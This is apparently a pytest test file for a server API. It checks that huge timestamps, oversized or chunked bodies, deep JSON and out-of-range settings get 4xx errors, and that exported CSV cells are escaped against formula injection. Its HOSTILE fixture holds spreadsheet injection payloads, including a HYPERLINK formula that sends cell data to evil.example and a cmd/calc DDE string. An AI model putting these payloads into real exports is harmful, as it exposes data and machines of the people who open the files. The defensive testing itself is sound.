"""Bad input at the centre (issue 13): numbers in headers and queries are bounded (4xx,
never 5xx), every route refuses an oversized body with 413 before authentication, deep
JSON is refused, and CSV cells cannot become spreadsheet formulas."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import test_centre_support as support
from test_centre_support import Centre, checkin_body, device_keys, make_chain, signed

from centre.api.body_limit import DEFAULT_LIMIT
from centre.core.security import Role
from kiosk.protocol.requests import sign_request

db_url = support.db_url
centre = support.centre

HUGE = "9" * 400


def _headers_with_timestamp(keys: Any, method: str, path: str, ts: str) -> dict[str, str]:
    headers = sign_request(keys.private_key, keys.device_id, method, path, b"")
    headers["X-Kiosk-Timestamp"] = ts
    return headers


@pytest.mark.parametrize("ts", [HUGE, "1" + "0" * 30, "-" + HUGE, "1_700_000_000", " 17", "1e9"])
def test_a_huge_timestamp_on_enroll_is_401_not_500(centre: Centre, tmp_path: Path, ts: str) -> None:
    keys = device_keys(tmp_path)
    body = json.dumps({"token": "x", "device_id": keys.device_id, "public_key": "AAAA"}).encode()
    headers = sign_request(keys.private_key, keys.device_id, "POST", "/api/v1/devices/enroll", body)
    headers["X-Kiosk-Timestamp"] = ts
    r = centre.client.post("/api/v1/devices/enroll", content=body, headers=headers)
    assert r.status_code == 401, r.text
    assert r.json()["error"] == "bad_timestamp"


@pytest.mark.parametrize(
    "method,path",
    [
        ("POST", "/api/v1/devices/{id}/records"),
        ("GET", "/api/v1/devices/{id}/status"),
        ("GET", "/api/v1/rosters/R-1/latest"),
    ],
)
def test_a_huge_timestamp_from_a_known_device_is_401_not_500(
    centre: Centre, tmp_path: Path, method: str, path: str
) -> None:
    keys = device_keys(tmp_path)
    centre.enroll(keys)
    path = path.format(id=keys.device_id)
    headers = _headers_with_timestamp(keys, method, path, HUGE)
    r = centre.client.request(method, path, headers=headers, content=b'{"records": []}')
    assert r.status_code == 401, r.text
    assert r.json()["error"] == "bad_timestamp"


@pytest.mark.parametrize("after_seq", ["99999999999999999999", HUGE, "-1"])
def test_a_huge_after_seq_is_422_not_500(centre: Centre, after_seq: str) -> None:
    r = centre.client.get(f"/api/v1/records?after_seq={after_seq}", headers=centre.staff())
    assert r.status_code == 422, r.text
    assert r.json()["error"] == "invalid_request"
    r = centre.client.get("/api/v1/records?after_seq=9223372036854775807", headers=centre.staff())
    assert r.status_code == 200 and r.json()["records"] == []


# --- body size -------------------------------------------------------------------------------

STAFF_POSTS = ["/api/v1/users", "/api/v1/enrolment-tokens", "/api/v1/devices/enroll"]


@pytest.mark.parametrize("path", STAFF_POSTS)
def test_an_oversized_body_without_credentials_is_413_before_auth(
    centre: Centre, path: str
) -> None:
    """On main these answered 401 only after buffering the whole body (50 MB → 283 MB RSS)."""
    body = b'{"name": "' + b"x" * (DEFAULT_LIMIT + 10) + b'"}'
    r = centre.client.post(path, content=body, headers={"Content-Type": "application/json"})
    assert r.status_code == 413, r.text
    assert r.json() == {
        "error": "body_too_large",
        "detail": f"request body over {DEFAULT_LIMIT} bytes",
    }


def _chunks(total: int, pulled: list[int]) -> Iterator[bytes]:
    block = b"[" * 16384
    sent = 0
    while sent < total:
        pulled.append(len(block))
        sent += len(block)
        yield block


@pytest.mark.parametrize("path", ["/api/v1/users", "/api/v1/devices/x/records"])
def test_a_chunked_body_is_counted_while_it_streams(centre: Centre, path: str) -> None:
    """No Content-Length: the middleware counts and cuts off at the route's limit."""
    pulled: list[int] = []
    limit = DEFAULT_LIMIT if path.endswith("users") else centre.settings.max_body_bytes
    r = centre.client.post(
        path, content=_chunks(limit * 4, pulled), headers={"Content-Type": "application/json"}
    )
    assert r.status_code == 413, r.text
    assert r.json()["error"] == "body_too_large"


def test_ingest_and_roster_keep_their_larger_limits(centre: Centre, tmp_path: Path) -> None:
    keys = device_keys(tmp_path)
    centre.enroll(keys)
    envs = make_chain(keys, 120)  # ~100 KB: over the default limit, under ingest's
    body = json.dumps({"records": [e.to_dict() for e in envs]}).encode()
    assert len(body) > DEFAULT_LIMIT
    r = signed(centre.client, keys, "POST", f"/api/v1/devices/{keys.device_id}/records", body)
    assert r.status_code == 200 and r.json()["accepted"] == 120, r.text


def test_a_bad_content_length_is_400(centre: Centre) -> None:
    r = centre.client.post(
        "/api/v1/users", content=b"{}", headers={"Content-Length": "1_0", "Authorization": "x"}
    )
    assert r.status_code == 400, r.text


@pytest.mark.parametrize("path", ["/api/v1/users", "/api/v1/devices/enroll", "/api/v1/rosters/R-1"])
def test_deep_json_is_refused_with_4xx(centre: Centre, path: str) -> None:
    body = b"[" * 50_000 + b"]" * 50_000
    r = centre.client.post(path, content=body, headers=centre.staff())
    assert 400 <= r.status_code < 500, r.text


def test_deep_json_from_a_device_is_malformed(centre: Centre, tmp_path: Path) -> None:
    keys = device_keys(tmp_path)
    centre.enroll(keys)
    body = b'{"records": ' + b"[" * 40 + b"]" * 40 + b"}"
    r = signed(centre.client, keys, "POST", f"/api/v1/devices/{keys.device_id}/records", body)
    assert r.status_code == 400, r.text
    assert r.json()["error"] == "malformed_json" and "nests deeper than 32" in r.text


# --- CSV ---------------------------------------------------------------------------------------

HOSTILE = {
    "session": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "room": "@SUM(1+1)*cmd|' /C calc'!A0",
    "proctor": "+1+cmd",
}


def test_csv_cells_that_start_a_formula_are_escaped(centre: Centre, tmp_path: Path) -> None:
    keys = device_keys(tmp_path)
    centre.enroll(keys)
    hostile = checkin_body(
        1, session=HOSTILE["session"], room=HOSTILE["room"], proctor=HOSTILE["proctor"]
    )
    first = make_chain(keys, 1, body=hostile)[0]
    tabbed = checkin_body(2, session="-2", room="\tR")
    envs = [first, make_chain(keys, 1, start_seq=2, prev=first.digest(), body=tabbed)[0]]
    r = centre.push(keys, envs)
    assert r.status_code == 200 and r.json()["accepted"] == 2, r.text
    viewer = centre.add_user("vera", Role.viewer)
    for url in ("/api/v1/reports/overrides.csv", "/api/v1/reports/overrides?format=csv"):
        r = centre.client.get(url, headers=centre.staff(viewer))
        assert r.status_code == 200
        rows = list(csv.DictReader(io.StringIO(r.text)))
        keys_by_scope = {(row["scope"], row["key"]) for row in rows}
        assert ("session", "'" + HOSTILE["session"]) in keys_by_scope
        assert ("room", "'" + HOSTILE["room"]) in keys_by_scope
        assert ("proctor", "'" + HOSTILE["proctor"]) in keys_by_scope
        assert ("session", "'-2") in keys_by_scope and ("room", "'\tR") in keys_by_scope
        for row in rows:
            for value in row.values():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


@pytest.mark.parametrize(
    "name,value",
    [
        ("CENTRE_REQUEST_WINDOW_S", "1e400"),  # inf: every request "fresh" forever
        ("CENTRE_MAX_BODY_BYTES", "9" * 30),
        ("CENTRE_OVERRIDE_RATE_ALERT", "5.0"),
        ("CENTRE_MAX_FUTURE_SKEW_S", "nan"),
    ],
)
def test_centre_settings_outside_their_range_are_refused(
    tmp_path: Path, name: str, value: str
) -> None:
    from centre.core.config import CentreSettings
    from centre.errors import CentreConfigError

    with pytest.raises(CentreConfigError, match="must be between"):
        CentreSettings.load(environ={"CENTRE_DATA_DIR": str(tmp_path), name: value})
